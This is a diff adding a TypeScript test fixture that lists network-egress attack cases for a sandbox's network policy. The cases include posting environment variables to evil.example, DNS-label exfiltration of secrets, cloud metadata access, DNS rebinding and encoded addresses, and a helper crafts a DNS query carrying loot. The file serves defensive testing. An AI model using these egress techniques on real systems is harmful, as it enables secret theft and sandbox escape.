@@ -1,0 +1,187 @@
+import type { Attack } from '../attack.ts';
+import { ALLOWED, at, hello, network, PUBLIC, udpSink } from '../network-arms.ts';
+import { ABSTRACT, ENVIRONMENT, HTTP, LOOKUP, RAW, SYSTEM_LOOKUP, TCP, UDP } from '../network-scripts.ts';
+import { LOOT } from '../network-sinks.ts';
+
+export const attacks: readonly Attack[] = network([
+  {
+    id: 'R3-environment-away',
+    title: 'a changed script posts the environment',
+    script: ENVIRONMENT,
+    inside: at('evil.example', 80),
+    evidence: 'not-listed',
+  },
+  {
+    id: 'R3-environment-to-address',
+    title: 'the same, to an address',
+    script: ENVIRONMENT,
+    inside: at(PUBLIC, 80),
+    evidence: 'address-literal',
+  },
+  {
+    id: 'R43-unlisted-host',
+    title: 'HTTP to a host that is not listed',
+    script: HTTP,
+    inside: at('evil.example', 80),
+    evidence: 'not-listed',
+  },
+  {
+    id: 'R43-dns-labels',
+    title: 'secrets as labels, through the name server of the pod',
+    script: SYSTEM_LOOKUP,
+    inside: at('', 53),
+    outside: udpSink,
+    evidence: 'not-listed',
+  },
+  {
+    id: 'R43-dns-direct',
+    title: 'secrets as labels, straight to a public name server',
+    script: LOOKUP,
+    inside: at('8.8.8.8', 53),
+    outside: udpSink,
+    evidence: 'not-listed',
+  },
+  {
+    id: 'R43-dns-tcp',
+    title: 'the same over TCP',
+    script: RAW,
+    extra: dnsOverTcp(),
+    inside: at('8.8.8.8', 53),
+    evidence: 'not-listed',
+  },
+  {
+    id: 'R43-dns-tls',
+    title: 'DNS over TLS to an address',
+    script: TCP,
+    inside: at('1.1.1.1', 853),
+    evidence: 'address-literal',
+  },
+  {
+    id: 'R43-dns-https',
+    title: 'DNS over HTTPS to an address',
+    script: RAW,
+    extra: hello('cloudflare-dns.com'),
+    inside: at('1.1.1.1', 443),
+    evidence: 'address-literal',
+  },
+  {
+    id: 'K5-address',
+    title: 'TCP straight to an address',
+    script: TCP,
+    inside: at(PUBLIC, 443),
+    evidence: 'address-literal',
+  },
+  {
+    id: 'K5-address-odd-port',
+    title: 'TCP to an address on a port that nobody serves',
+    script: TCP,
+    inside: at(PUBLIC, 31_337),
+    evidence: 'counted',
+  },
+  {
+    id: 'K5-ipv6',
+    title: 'TCP to an IPv6 address',
+    script: TCP,
+    inside: at('2001:db8::10', 443),
+    evidence: 'address-literal',
+  },
+  {
+    id: 'K5-mapped',
+    title: 'TCP to an IPv4 address in IPv6 clothes',
+    script: TCP,
+    inside: at(`::ffff:${PUBLIC}`, 443),
+    evidence: 'address-literal',
+  },
+  {
+    id: 'K5-decimal',
+    title: 'an address written as one number',
+    script: HTTP,
+    inside: at('3405803786', 80),
+    evidence: 'address-literal',
+  },
+  {
+    id: 'K5-metadata',
+    title: 'the metadata service of the cloud',
+    script: HTTP,
+    inside: at('169.254.169.254', 80),
+    evidence: 'address-literal',
+  },
+  {
+    id: 'K5-metadata-name',
+    title: 'an allowed name that resolves to the metadata service',
+    script: HTTP,
+    allow: [`${ALLOWED}:80`],
+    resolvesTo: ['169.254.169.254', '::ffff:169.254.169.254', 'fd00:ec2::254', '168.63.129.16'],
+    inside: at(ALLOWED, 80),
+    evidence: 'private-address',
+  },
+  {
+    id: 'K5-rebind',
+    title: 'an allowed name that resolves to loopback and private addresses',
+    script: HTTP,
+    allow: [`${ALLOWED}:80`],
+    resolvesTo: ['127.0.0.1', '::1', '10.0.0.1', '64:ff9b::7f00:1', '::ffff:10.0.0.1'],
+    inside: at(ALLOWED, 80),
+    evidence: 'private-address',
+  },
+  {
+    id: 'K5-smtp',
+    title: 'mail to an allowed host',
+    script: TCP,
+    allow: [`${ALLOWED}:443`],
+    inside: at(ALLOWED, 25),
+    evidence: 'port-not-listed',
+  },
+  {
+    id: 'K5-udp',
+    title: 'UDP to an address',
+    script: UDP,
+    inside: at(PUBLIC, 9999),
+    outside: udpSink,
+    evidence: 'counted',
+  },
+  {
+    id: 'K5-udp-quic',
+    title: 'QUIC to an address',
+    script: UDP,
+    inside: at(PUBLIC, 443),
+    outside: udpSink,
+    evidence: 'counted',
+  },
+  {
+    id: 'K5-udp-ipv6',
+    title: 'UDP to an IPv6 address',
+    script: UDP,
+    inside: at('2001:db8::10', 9999),
+    outside: udpSink,
+    evidence: 'counted',
+  },
+  {
+    id: 'K5-host-loopback',
+    title: 'a service on the loopback of the host',
+    script: TCP,
+    inside: (sinks) => at('127.0.0.1', sinks.port),
+    evidence: 'none',
+  },
+  {
+    id: 'K5-host-loopback-udp',
+    title: 'a datagram service on the loopback of the host',
+    script: UDP,
+    inside: udpSink,
+    outside: udpSink,
+    evidence: 'none',
+  },
+  {
+    id: 'K5-abstract-socket',
+    title: 'an abstract socket of the host',
+    script: ABSTRACT,
+    inside: at('', 0),
+    evidence: 'none',
+  },
+]);
+
+function dnsOverTcp(): string {
+  const labels = [LOOT, 'evil', 'example'].map((label) => String.fromCharCode(label.length) + label).join('');
+  const message = `\x12\x34\x01\x00\x00\x01\x00\x00\x00\x00\x00\x00${labels}\0\0\x01\0\x01`;
+  return `\0${String.fromCharCode(message.length)}${message}`;
+}
